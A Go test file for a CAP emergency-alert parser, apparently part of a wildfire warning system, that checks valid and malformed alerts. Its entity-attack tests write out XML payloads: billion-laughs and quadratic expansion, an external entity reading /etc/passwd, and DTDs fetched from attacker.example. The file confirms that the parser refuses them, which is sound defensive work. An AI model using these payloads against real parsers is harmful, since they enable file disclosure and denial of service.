package intake_test

import (
	"context"
	"fmt"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/fireline/fireline"
	"github.com/fireline/fireline/intake"
)

func fixture(t testing.TB, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "cap", name))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// minimalAlert is the smallest alert that draws a cell: one info, one area, one polygon.
const minimalAlert = `<?xml version="1.0" encoding="UTF-8"?>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>T-1</identifier><sender>test@example.cn</sender><sent>2026-11-22T16:00:00+08:00</sent>
  <status>Actual</status><msgType>Alert</msgType><scope>Public</scope>
  <info><category>Fire</category><event>Wildfire</event><urgency>Immediate</urgency><severity>Severe</severity>
    <certainty>Observed</certainty>
    <area><areaDesc>West of the lake</areaDesc><polygon>36.45,115.95 36.45,115.97 36.47,115.97 36.47,115.95 36.45,115.95</polygon></area>
  </info>
</alert>`

// bigPolygon is a closed ring of n points on a circle of radius 0.15° around the city.
func bigPolygon(n int) string {
	var b strings.Builder
	for i := range n {
		a := 2 * math.Pi * float64(i) / float64(n)
		fmt.Fprintf(&b, "%.6f,%.6f ", 36.456+0.15*math.Sin(a), 115.985+0.15*math.Cos(a))
	}
	fmt.Fprintf(&b, "%.6f,%.6f", 36.456, 115.985+0.15)
	return b.String()
}

// capCases are the CAP adapter's table, and the seeds of FuzzCAP; fixtures are added by the
// tests that read them.
func capCases() []adapterCase {
	with := func(old, new string) string { return strings.Replace(minimalAlert, old, new, 1) }
	polygon := `<polygon>36.45,115.95 36.45,115.97 36.47,115.97 36.47,115.95 36.45,115.95</polygon>`
	info := minimalAlert[strings.Index(minimalAlert, "<info>"):strings.Index(minimalAlert, "</alert>")]
	return []adapterCase{
		{"minimal", minimalAlert, "", ""},
		{"no XML declaration", with(`<?xml version="1.0" encoding="UTF-8"?>`, ``), "", ""},
		{"a circle", with(polygon, `<circle>36.456,115.985 2.5</circle>`), "", ""},
		{"a point", with(polygon, `<circle>36.456,115.985 0</circle>`), "", ""},
		{"geocodes only", with(polygon, `<geocode><valueName>GB/T 2260</valueName><value>371502</value></geocode>`), "", ""},
		{"a test message", with(`<status>Actual</status>`, `<status>Test</status>`), "", ""},
		{"Z for the time zone", with(`2026-11-22T16:00:00+08:00`, `2026-11-22T08:00:00Z`), "", ""},
		{"an alert of real-world size", with(polygon, `<polygon>`+bigPolygon(15000)+`</polygon>`), "", ""},
		{"a signature", with(`</alert>`, `<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI=""><Transforms><Transform Algorithm="x"/></Transforms></Reference></SignedInfo></Signature></alert>`), "", ""},

		{"empty", ``, fireline.EINVALID, "body: empty"},
		{"JSON", `{"identifier":"T-1"}`, fireline.EINVALID, "body: no <alert> element"},
		{"oversized", with(`<note>`, `<note>`) + "<!--" + strings.Repeat("x", intake.MaxCAPBytes) + "-->", fireline.ETOOLARGE, "larger than 2097152 bytes"},
		{"billion laughs", `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>` +
			`<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol2;</identifier></alert>`, fireline.EINVALID, "<!DOCTYPE…> refused"},
		{"external entity", `<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
			`<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><note>&xxe;</note></alert>`, fireline.EINVALID, "DOCTYPE"},
		{"undeclared entity", with(`<event>Wildfire</event>`, `<event>&xxe;</event>`), fireline.EINVALID, "malformed XML at line"},
		{"CAP 1.1", strings.Replace(minimalAlert, "cap:1.2", "cap:1.1", 1), fireline.EINVALID, "must be <alert> in namespace urn:oasis:names:tc:emergency:cap:1.2"},
		{"no namespace", strings.Replace(minimalAlert, ` xmlns="urn:oasis:names:tc:emergency:cap:1.2"`, ``, 1), fireline.EINVALID, "root element must be <alert>"},
		{"another root", `<feed xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>`, fireline.EINVALID, "not <feed>"},
		{"Latin-1", strings.Replace(minimalAlert, "UTF-8", "ISO-8859-1", 1), fireline.EINVALID, "only UTF-8"},
		{"invalid UTF-8", with(`Wildfire`, "Wild\xfffire"), fireline.EINVALID, "not valid UTF-8"},
		{"NUL byte", with(`Wildfire`, "Wild\x00fire"), fireline.EINVALID, "NUL"},
		{"deeply nested junk", with(`</alert>`, strings.Repeat("<x>", 100)+strings.Repeat("</x>", 100)+`</alert>`), fireline.EINVALID, "nested deeper than 16"},
		{"unclosed element", with(`</alert>`, ``), fireline.EINVALID, "malformed XML"},
		{"no identifier", with(`<identifier>T-1</identifier>`, ``), fireline.EINVALID, "identifier: required"},
		{"identifier with a space", with(`T-1`, `T 1`), fireline.EINVALID, "identifier: \"T 1\" may not hold spaces"},
		{"sender with a comma", with(`test@example.cn`, `a,b`), fireline.EINVALID, "sender:"},
		{"no sent", with(`<sent>2026-11-22T16:00:00+08:00</sent>`, ``), fireline.EINVALID, "sent: required"},
		{"sent as a date", with(`2026-11-22T16:00:00+08:00`, `22/11/2026`), fireline.EINVALID, `sent: "22/11/2026" is not a CAP date and time`},
		{"sent far ahead", with(`2026-11-22T16:00:00+08:00`, `2036-11-22T16:00:00+08:00`), fireline.EINVALID, "sent: 2036-11-22T16:00:00+08:00 is in the future"},
		{"unknown status", with(`Actual`, `Real`), fireline.EINVALID, `status: "Real" is not one of`},
		{"unknown msgType", with(`<msgType>Alert</msgType>`, `<msgType>Panic</msgType>`), fireline.EINVALID, `msgType: "Panic"`},
		{"restricted without restriction", with(`<scope>Public</scope>`, `<scope>Restricted</scope>`), fireline.EINVALID, "restriction: required"},
		{"private without addresses", with(`<scope>Public</scope>`, `<scope>Private</scope>`), fireline.EINVALID, "addresses: required"},
		{"update without references", with(`<msgType>Alert</msgType>`, `<msgType>Update</msgType>`), fireline.EINVALID, "references: required for msgType Update"},
		{"bad reference", with(`<scope>Public</scope>`, `<scope>Public</scope><references>T-0</references>`), fireline.EINVALID, `references[0]: "T-0" is not "sender,identifier,sent"`},
		{"too many infos", with(info, strings.Repeat(info, 17)), fireline.EINVALID, "info: 17 blocks, at most 16"},
		{"no category", with(`<category>Fire</category>`, ``), fireline.EINVALID, "info[0].category: required"},
		{"unknown category", with(`<category>Fire</category>`, `<category>Zombies</category>`), fireline.EINVALID, `info[0].category[0]: "Zombies"`},
		{"no event", with(`<event>Wildfire</event>`, ``), fireline.EINVALID, "info[0].event: required"},
		{"unknown severity", with(`Severe`, `Apocalyptic`), fireline.EINVALID, `info[0].severity: "Apocalyptic"`},
		{"unknown urgency", with(`Immediate`, `Now`), fireline.EINVALID, `info[0].urgency: "Now"`},
		{"expires before sent", with(`<certainty>`, `<expires>2026-11-21T16:00:00+08:00</expires><certainty>`), fireline.EINVALID, "info[0].expires: 2026-11-21T16:00:00+08:00 is before the alert was sent"},
		{"expires in ten years", with(`<certainty>`, `<expires>2036-11-21T16:00:00+08:00</expires><certainty>`), fireline.EINVALID, "more than 31 days after"},
		{"no areaDesc", with(`<areaDesc>West of the lake</areaDesc>`, ``), fireline.EINVALID, "info[0].area[0].areaDesc: required"},
		{"three points", with(polygon, `<polygon>36.45,115.95 36.45,115.97 36.45,115.95</polygon>`), "", "polygon[0]: 3 points"},
		{"unclosed polygon", with(`36.47,115.95 36.45,115.95<`, `36.47,115.95 36.46,115.95 36.45,115.96<`), "", "not closed"},
		{"a line", with(polygon, `<polygon>36.45,115.95 36.46,115.96 36.45,115.95 36.45,115.95</polygon>`), "", "2 distinct points"},
		{"latitude 91", with(`36.47,115.97`, `91,115.97`), "", "point 3: latitude 91 is outside -90..90"},
		{"NaN", with(`36.47,115.97`, `NaN,115.97`), "", `point 3: "NaN,115.97" is not "lat,lon" in decimal degrees`},
		{"lon,lat order", with(`36.47,115.97`, `115.97,36.47`), "", "latitude 115.97 is outside"},
		{"no comma", with(`36.47,115.97`, `36.47;115.97`), "", `is not "lat,lon"`},
		{"41,009 points", with(polygon, `<polygon>`+bigPolygon(41_009)+`</polygon>`), "", ""},
		{"negative radius", with(polygon, `<circle>36.456,115.985 -1</circle>`), "", "circle[0]: radius \"-1\" is not 0..2000 km"},
		{"circle without radius", with(polygon, `<circle>36.456,115.985</circle>`), "", `circle[0]: "36.456,115.985" is not "lat,lon radius"`},
		{"too many shapes", with(polygon, strings.Repeat(`<circle>36.456,115.985 1</circle>`, intake.MaxCAPShapes+1)), fireline.EINVALID, "polygons and circles, at most 256"},
		{"control characters", with(`West of the lake`, "West\x1b[2J"), fireline.EINVALID, "malformed XML"},
		{"resource without type", with(`<area>`, `<resource><resourceDesc>map</resourceDesc></resource><area>`), fireline.EINVALID, "info[0].resource[0].mimeType: required"},
		{"resource size", with(`<area>`, `<resource><resourceDesc>map</resourceDesc><mimeType>image/png</mimeType><size>-5</size></resource><area>`), fireline.EINVALID, "info[0].resource[0].size"},
		{"ceiling without altitude", with(`</area>`, `<ceiling>3000</ceiling></area>`), fireline.EINVALID, "ceiling: needs altitude"},
	}
}

// capAdapter runs the CAP adapter as an alarm adapter, for the table runner.
func TestCAP(t *testing.T) {
	in := newIntake()
	for _, tt := range capCases() {
		t.Run(tt.name, func(t *testing.T) {
			w, err := in.CAP(context.Background(), []byte(tt.body))
			if tt.code == "" {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				checkWarning(t, w)
				// A detail names the shape set aside, and why, on its area.
				if tt.detail != "" && !slices.ContainsFunc(w.Infos[0].Areas[0].Problems, func(p string) bool { return strings.Contains(p, tt.detail) }) {
					t.Fatalf("problems %q, want one containing %q", w.Infos[0].Areas[0].Problems, tt.detail)
				}
				return
			}
			if err == nil {
				t.Fatalf("accepted as %+v", w.Identifier)
			}
			if fireline.ErrorCode(err) != tt.code || !strings.Contains(fireline.ErrorMessage(err), tt.detail) {
				t.Fatalf("%s %q, want %s containing %q", fireline.ErrorCode(err), fireline.ErrorMessage(err), tt.code, tt.detail)
			}
		})
	}
}

// checkWarning holds for every accepted warning.
func checkWarning(t *testing.T, w fireline.Warning) {
	t.Helper()
	a, _ := serviceArea{}.ServiceArea(context.Background())
	if w.Identifier == "" || w.Sender == "" || w.Sent.IsZero() || !w.Expires.After(w.Sent) || w.InServiceArea != (len(w.Cells) > 0) {
		t.Fatalf("warning %+v", w)
	}
	for _, c := range w.Cells {
		if c.Readiness > w.Readiness || c.Expires.After(w.Expires) {
			t.Fatalf("cell %+v beyond the warning's readiness %d and expiry %s", c, w.Readiness, w.Expires)
		}
	}
	if len(w.Cells) > a.Len() {
		t.Fatalf("%d cells in an area of %d", len(w.Cells), a.Len())
	}
}

// TestCAPFixtures reads the realistic alerts: a rainstorm warning in two languages, its update
// to red and its cancellation, and a typhoon warning for another province.
func TestCAPFixtures(t *testing.T) {
	in := newIntake()
	read := func(name string) fireline.Warning {
		t.Helper()
		w, err := in.CAP(context.Background(), []byte(fixture(t, name)))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		checkWarning(t, w)
		return w
	}
	orange := read("rainstorm_orange.xml")
	expires := time.Date(2026, 11, 22, 20, 30, 0, 0, time.UTC)
	if orange.Identifier != "LCMO-20261122-RS-ORANGE-001" || orange.Sender != "warning@lc-met.example.cn" ||
		orange.Status != "Actual" || orange.MsgType != "Alert" || orange.Scope != "Public" || len(orange.Infos) != 2 ||
		orange.Readiness != fireline.ReadinessHigh || !orange.Expires.Equal(expires) || !orange.InServiceArea {
		t.Errorf("orange warning %+v", orange)
	}
	zh := orange.Infos[0]
	if zh.Language != "zh-CN" || zh.Event != "暴雨橙色预警" || zh.Severity != "Severe" || zh.Urgency != "Expected" ||
		zh.Certainty != "Likely" || len(zh.ResponseTypes) != 2 || zh.Onset == nil || len(zh.Areas) != 1 ||
		len(zh.Areas[0].Polygons[0]) != 7 || zh.Areas[0].Geocodes[0].Value != "371502" || zh.Parameters[0].Value != "100" {
		t.Errorf("first info %+v", zh)
	}
	if n := len(orange.Cells); n < 40 || n > 200 {
		t.Errorf("orange warning covers %d cells of the area, want the district's 40..200", n)
	}

	red := read("rainstorm_red_update.xml")
	if red.MsgType != "Update" || len(red.References) != 1 || red.References[0].Identifier != orange.Identifier ||
		red.Readiness != fireline.ReadinessHighest || len(red.Infos[0].Resources) != 1 || red.Infos[0].Resources[0].Size != 48213 {
		t.Errorf("red update %+v", red)
	}
	if n := len(red.Cells); n < 45 || n > 60 {
		t.Errorf("an 8 km circle (201 km²) covers %d cells of 3.8 km² here, want 45..60", n)
	}

	cancel := read("rainstorm_cancel.xml")
	if cancel.MsgType != "Cancel" || cancel.Readiness != fireline.ReadinessNone || cancel.References[0].Identifier != red.Identifier {
		t.Errorf("cancel %+v", cancel)
	}

	typhoon := read("typhoon_zhanjiang.xml")
	if typhoon.InServiceArea || len(typhoon.Cells) != 0 || typhoon.Readiness != fireline.ReadinessHighest {
		t.Errorf("typhoon far away: in service area %v, %d cells", typhoon.InServiceArea, len(typhoon.Cells))
	}
}

// TestCAPFixturesValidate checks the fixtures against the OASIS schema, so the tests read real
// CAP rather than what the parser happens to like. It needs xmllint (Debian's libxml2-utils,
// which scripts/deps.sh installs) and the schema in the shared data.
func TestCAPFixturesValidate(t *testing.T) {
	xsd := filepath.Join("..", "..", "shared", "data", "cap", "CAP-v1.2-schema.xsd")
	if _, err := os.Stat(xsd); err != nil {
		t.Skipf("CAP schema not found at %s", xsd)
	}
	if _, err := exec.LookPath("xmllint"); err != nil {
		t.Skip("xmllint not installed (apt-get install libxml2-utils)")
	}
	files, _ := filepath.Glob(filepath.Join("testdata", "cap", "*.xml"))
	for _, f := range files {
		if out, err := exec.Command("xmllint", "--noout", "--schema", xsd, f).CombinedOutput(); err != nil {
			t.Errorf("%s: %v\n%s", f, err, out)
		}
	}
}

// Entity attacks are refused at their DOCTYPE, at once and without expanding anything: a
// billion laughs would be gigabytes, a quadratic blowup tens of megabytes, an external entity
// a read of /etc/passwd or a request to another host.
func TestCAPRefusesEntityAttacksQuickly(t *testing.T) {
	var laughs strings.Builder
	laughs.WriteString(`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">`)
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&laughs, `<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	laughs.WriteString(`]><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><note>&lol9;</note></alert>`)
	big := strings.Repeat("x", 50_000)
	quadratic := `<!DOCTYPE alert [<!ENTITY a "` + big + `">]><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><note>` +
		strings.Repeat("&a;", 20_000) + `</note></alert>`
	for _, c := range []struct{ name, body string }{
		{"billion laughs", laughs.String()},
		{"quadratic blowup", quadratic},
		{"external entity file:///etc/passwd", `<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
			`<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><note>&xxe;</note></alert>`},
		{"external DTD", `<!DOCTYPE alert SYSTEM "http://attacker.example/evil.dtd"><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>`},
		{"public DTD", `<!DOCTYPE alert PUBLIC "-//X//Y" "http://attacker.example/y.dtd"><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>`},
		{"parameter entity", `<!DOCTYPE alert [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>`},
		{"DOCTYPE after a comment", `<!-- hello --><!DOCTYPE alert><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>`},
		{"ENTITY declaration inside the alert", `<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><!ENTITY a "b"></alert>`},
	} {
		t.Run(c.name, func(t *testing.T) {
			in := newIntake()
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			start := time.Now()
			_, err := in.CAP(context.Background(), []byte(c.body))
			took := time.Since(start)
			runtime.ReadMemStats(&after)
			if fireline.ErrorCode(err) != fireline.EINVALID || !strings.Contains(fireline.ErrorMessage(err), "refused: CAP alerts need no DOCTYPE or entity declarations") {
				t.Fatalf("%v, want EINVALID naming the declaration", err)
			}
			if took > time.Second {
				t.Errorf("took %s", took)
			}
			if grew := after.TotalAlloc - before.TotalAlloc; grew > 4*uint64(len(c.body))+1<<20 {
				t.Errorf("allocated %d bytes for a %d-byte body: something expanded", grew, len(c.body))
			}
		})
	}
}
